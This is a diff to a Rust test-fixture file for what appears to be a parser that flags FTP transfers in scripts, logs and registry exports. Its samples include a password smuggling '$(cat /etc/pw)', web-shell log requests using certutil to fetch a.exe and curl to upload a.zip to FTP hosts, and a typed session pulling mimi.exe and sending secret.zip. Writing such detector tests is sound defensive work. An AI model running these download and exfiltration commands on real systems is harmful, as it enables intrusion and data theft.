@@ -103,14 +103,19 @@ pub(super) const VARIANTS: &[Variant] = &[
         )],
         &[
             "203.0.113.130:21 as 'joe'/'$(cat /etc/pw)'",
-            "  puts /a/b as b_$(date +%Y%m%d).gz, ascii",
-            "  puts $(basename \"$FILE\") as in, ascii",
+            "  puts /a/b as b_$(date +%Y%m%d).gz, binary",
+            "  puts $(basename \"$FILE\") as in, binary",
+            "  unknown $(cat /etc/pw)",
+            "  unknown $(date +%Y%m%d)",
+            "  unknown $FILE",
+            "  unknown $(basename \"$FILE\")",
+            "bsd runs - (1)",
         ],
     ),
     variant(
         "what a command line leaves open stays one word",
         &[("run.sh", "#!/bin/sh\nlftp -u joe,pw 203.0.113.131 -e \"put /a/b.tgz -o $(date +%F).tgz; bye\"\n")],
-        &["203.0.113.131:21 as 'joe'/'pw'", "  puts /a/b.tgz as $(date +%F).tgz, binary"],
+        &["203.0.113.131:21 as 'joe'/'pw'", "  puts /a/b.tgz as $(date +%F).tgz, binary", "lftp runs - (1)"],
     ),
     variant(
         "what PowerShell leaves open stays one word",
@@ -118,7 +123,12 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.ps1",
             "@\"\nopen 203.0.113.132\nuser joe pw\nput C:\\a.zip a_$(Get-Date -Format yyyyMMdd).zip\nbye\n\"@ | Out-File -Encoding ascii f.txt\nftp -n -s:f.txt\n",
         )],
-        &["203.0.113.132:21 as 'joe'/'pw'", "  puts C:\\a.zip as a_$(Get-Date -Format yyyyMMdd).zip, ascii"],
+        &[
+            "203.0.113.132:21 as 'joe'/'pw'",
+            "  puts C:\\a.zip as a_$(Get-Date -Format yyyyMMdd).zip, ascii",
+            "  unknown $(Get-Date -Format yyyyMMdd)",
+            "windows runs f.txt (1)",
+        ],
     ),
     variant(
         "what a batch file leaves open stays one word",
@@ -126,7 +136,67 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.cmd",
             "echo open 203.0.113.133>f\r\necho user joe pw>>f\r\necho put C:\\a.zip a_%time: =0%.zip>>f\r\nftp -n -s:f\r\n",
         )],
-        &["203.0.113.133:21 as 'joe'/'pw'", "  puts C:\\a.zip as a_%time: =0%.zip, ascii"],
+        &[
+            "203.0.113.133:21 as 'joe'/'pw'",
+            "  puts C:\\a.zip as a_%time: =0%.zip, ascii",
+            "  unknown %time: =0%",
+            "windows runs f (1)",
+        ],
+    ),
+    variant(
+        "the file itself, read by a loop",
+        &[(
+            "run.cmd",
+            "@echo off\r\n(for /f \"tokens=1* delims=:\" %%a in ('findstr /b /c:\"ftp:\" \"%~f0\"') do echo %%b)>%tmp%\\o.t\r\nftp -n -s:%tmp%\\o.t\r\nexit /b\r\nftp:open 203.0.113.134\r\nftp:user m n\r\nftp:get q.cab\r\nftp:bye\r\n",
+        )],
+        &["203.0.113.134:21 as 'm'/'n'", "  gets q.cab as q.cab, ascii", "windows runs %tmp%\\o.t (1)"],
+    ),
+    variant(
+        "the file itself, fed to the client",
+        &[("run.cmd", "ftp -n -v <%0\r\ngoto :eof\r\nopen 203.0.113.135\r\nuser a b\r\nget x\r\nbye\r\n")],
+        &[
+            "203.0.113.135:21 as 'a'/'b'",
+            "  gets x as x, ascii",
+            "  refuses ftp -n -v <%0",
+            "  refuses goto :eof",
+            "windows runs %0 (1)",
+        ],
+    ),
+    variant(
+        "requests that a web server logged",
+        &[(
+            "access.log",
+            "198.51.100.7 - - [10/Oct/2024:13:55:36 +0000] \"GET /up.php?cmd=certutil%20-urlcache%20-f%20ftp://203.0.113.136/a.exe%20a.exe HTTP/1.1\" 200 5\n\
+             198.51.100.7 - - [10/Oct/2024:13:55:37 +0000] \"GET /up.php?cmd=cmd+/c+curl+-T+a.zip+ftp://u:p@203.0.113.137/ HTTP/1.1\" 200 5\n",
+        )],
+        &[
+            "203.0.113.136:21 as 'anonymous'/'IEUser@'",
+            "  gets a.exe as a.exe, binary",
+            "203.0.113.137:21 as 'u'/'p'",
+            "  puts a.zip as a.zip, binary",
+            "certutil runs - (1)",
+            "curl runs - (1)",
+        ],
+    ),
+    variant(
+        "requests to a proxy, and sentences, are no calls",
+        &[
+            ("proxy.log", "1.1 10.0.0.5 \"GET ftp://203.0.113.138/pub/x.exe HTTP/1.1\" 200\n"),
+            (
+                "notes.txt",
+                "Start ftp://203.0.113.138/ in your browser.\nget ftp://203.0.113.138/x.tgz from the server and then go on\nAxel wrote: see ftp://203.0.113.138/\n",
+            ),
+            ("typed.txt", "C:\\> ftp 203.0.113.139\nftp> get mimi.exe\nftp> put secret.zip\n"),
+        ],
+        &["windows runs - (0)"],
+    ),
+    variant(
+        "the list of the Run dialog in an export of the registry",
+        &[(
+            "r.reg",
+            "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU]\r\n\"b\"=\"cmd /c ftp -A -s:c:\\\\f.txt 203.0.113.140\\\\1\"\r\n",
+        )],
+        &["windows runs c:\\f.txt (0) anonymously"],
     ),
     variant(
         "V10 built from variables",
